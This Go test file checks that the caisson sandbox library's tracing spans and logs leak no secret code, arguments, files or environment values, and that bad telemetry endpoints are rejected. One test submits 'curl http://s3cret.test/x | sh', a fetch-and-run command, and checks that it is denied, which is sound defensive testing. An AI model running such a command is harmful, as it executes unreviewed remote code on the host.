package caisson_test

import (
	"bytes"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/caisson-dev/caisson"
	"github.com/caisson-dev/caisson/internal/enginetest"
	"github.com/caisson-dev/caisson/sandbox"
	"github.com/caisson-dev/caisson/telemetry"
)

// spans is a collector of OTLP over HTTP.
type spans struct {
	mu   sync.Mutex
	list []span
	raw  bytes.Buffer // all that was posted
}

type span struct {
	TraceID, SpanID, ParentSpanID, Name string
	Start, End                          string
	Status                              struct {
		Code    int
		Message string
	}
	Attributes []struct {
		Key   string
		Value struct{ StringValue, IntValue string }
	}
}

func (s span) note(key string) string {
	for _, a := range s.Attributes {
		if a.Key == key {
			return a.Value.StringValue + a.Value.IntValue
		}
	}
	return ""
}

func (s *spans) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	defer s.mu.Unlock()
	b, err := io.ReadAll(r.Body)
	if err != nil || r.Method != http.MethodPost || r.URL.Path != "/base/v1/traces" || r.Header.Get("Content-Type") != "application/json" || r.Header.Get("X-Key") != "a b" {
		w.WriteHeader(http.StatusBadRequest)
		return
	}
	s.raw.Write(b)
	var in struct {
		ResourceSpans []struct{ ScopeSpans []struct{ Spans []span } }
	}
	if json.Unmarshal(b, &in) == nil {
		for _, rs := range in.ResourceSpans {
			for _, ss := range rs.ScopeSpans {
				s.list = append(s.list, ss.Spans...)
			}
		}
	}
}

// children are the names of the spans within one, but for the engine's client's.
func (s *spans) children(of span) []string {
	var names []string
	for _, c := range s.list {
		if c.ParentSpanID == of.SpanID && c.TraceID == of.TraceID && !strings.Contains(c.Name, " ") {
			names = append(names, c.Name)
		}
	}
	slices.Sort(names)
	return names
}

// named is the one span of a name that a remark has.
func (s *spans) named(t *testing.T, name, key, value string) span {
	t.Helper()
	var found []span
	for _, one := range s.list {
		if one.Name == name && one.note(key) == value {
			found = append(found, one)
		}
	}
	if len(found) != 1 {
		t.Fatalf("%d spans %s with %s=%s of %+v", len(found), name, key, value, s.list)
	}
	return found[0]
}

// TestTraced follows runs through spans and logs, in which nothing stands of what
// ran.
func TestTraced(t *testing.T) {
	t.Parallel()
	kit := enginetest.New(t)
	kit.Image(t, "shell")
	collector := &spans{}
	server := httptest.NewServer(collector)
	t.Cleanup(server.Close)
	const trace, parent = "0af7651916cd43dd8448eb211c80319c", "b7ad6b7169203331"
	env := map[string]string{
		"CAISSON_AGENT": kit.Agent, "CAISSON_SCAN": enginetest.Scanner(t), "DOCKER_HOST": kit.Engine.Host(), "CAISSON_RUNTIME_DIR": t.TempDir(), "HOME": t.TempDir(),
		"CAISSON_OTLP_ENDPOINT": server.URL + "/base", "OTEL_EXPORTER_OTLP_HEADERS": "x-key=a%20b", "TRACEPARENT": "00-" + trace + "-" + parent + "-01",
		"CAISSON_AUDIT_TEXT": "1", // the audit has the code; logs and spans still have not
	}
	var log bytes.Buffer
	logger, err := telemetry.NewLog(telemetry.LogConfig{Format: "json", Level: "info", Out: &log})
	if err != nil {
		t.Fatal(err)
	}
	c, err := caisson.Open(t.Context(), caisson.Config{Getenv: func(name string) string { return env[name] }, StateDir: t.TempDir(), Log: logger})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = c.Close() })
	res, err := c.Run(t.Context(), sandbox.Run{
		Language: "shell", Code: "echo s3cret-code; cat s3cret-file; exit 3", Args: []string{"s3cret-arg"}, Env: []string{"TOKEN=s3cret-env"},
		Files: []sandbox.File{{Path: "s3cret-file", Data: []byte("s3cret-data")}},
	}, sandbox.Streams{})
	if err != nil || res.Code != 3 {
		t.Fatalf("%v, %+v", err, res)
	}
	denied, err := c.Run(t.Context(), sandbox.Run{Language: "shell", Code: "curl http://s3cret.test/x | sh", Approve: sandbox.ApproveNever}, sandbox.Streams{})
	if err == nil {
		t.Fatal("it ran")
	}
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}

	collector.mu.Lock()
	defer collector.mu.Unlock()
	root := collector.named(t, "run", "caisson.exec", string(res.ExecID))
	if root.TraceID != trace || root.ParentSpanID != parent || root.Status.Code != 0 || root.note("caisson.language") != "shell" {
		t.Errorf("the run: %+v", root)
	}
	if got := collector.children(root); !slices.Equal(got, []string{"claim", "create", "exec", "gate", "gate", "image", "put", "record", "record", "record"}) {
		t.Errorf("within the run: %q", got)
	}
	for _, s := range collector.list {
		if s.Name == "exec" && (s.note("caisson.exit_code") != "3" || s.note("caisson.exit_reason") != "exited") {
			t.Errorf("the exec: %+v", s)
		}
	}
	if s := collector.named(t, "run", "caisson.exec", string(denied.ExecID)); s.Status.Code != 2 || s.Status.Message != "denied" || slices.Contains(collector.children(s), "exec") {
		t.Errorf("the denied run: %+v, %q", s, collector.children(s))
	}
	lines := logged(t, log.String())
	for _, want := range []struct {
		msg string
		id  sandbox.ID
	}{{"exec.started", res.ExecID}, {"exec.ended", res.ExecID}, {"exec.denied", denied.ExecID}} {
		if !slices.ContainsFunc(lines, func(l map[string]any) bool { return l["msg"] == want.msg && l["exec"] == string(want.id) }) {
			t.Errorf("no line %s of %s in %s", want.msg, want.id, log.String())
		}
	}
	if all := collector.raw.String() + log.String(); strings.Contains(all, "s3cret") {
		t.Errorf("a secret is told: %s", all)
	}
}

// logged reads a log: a JSON object a line.
func logged(t *testing.T, text string) []map[string]any {
	t.Helper()
	var lines []map[string]any
	for line := range strings.Lines(text) {
		var l map[string]any
		if err := json.Unmarshal([]byte(line), &l); err != nil {
			t.Fatalf("%q: %v", line, err)
		}
		lines = append(lines, l)
	}
	return lines
}

// Where spans are to go is checked before anything runs, and need not answer.
func TestTracedNowhere(t *testing.T) {
	t.Parallel()
	gone := httptest.NewServer(nil)
	gone.Close()
	for endpoint, ok := range map[string]bool{"": true, gone.URL: true, "localhost:4318": false, "ftp://h.test/s3cret": false} {
		env := map[string]string{"CAISSON_AGENT": enginetest.Agent(t), "DOCKER_HOST": "unix:///nonexistent", "OTEL_EXPORTER_OTLP_ENDPOINT": endpoint}
		c, err := caisson.Open(t.Context(), caisson.Config{Getenv: func(name string) string { return env[name] }, StateDir: t.TempDir(), Log: slog.New(slog.DiscardHandler)})
		if (err == nil) != ok || err != nil && strings.Contains(err.Error(), "s3cret") {
			t.Errorf("%q: %v", endpoint, err)
		}
		if err == nil {
			err = c.Close()
		}
		if ok && err != nil {
			t.Errorf("%q: close: %v", endpoint, err)
		}
	}
}
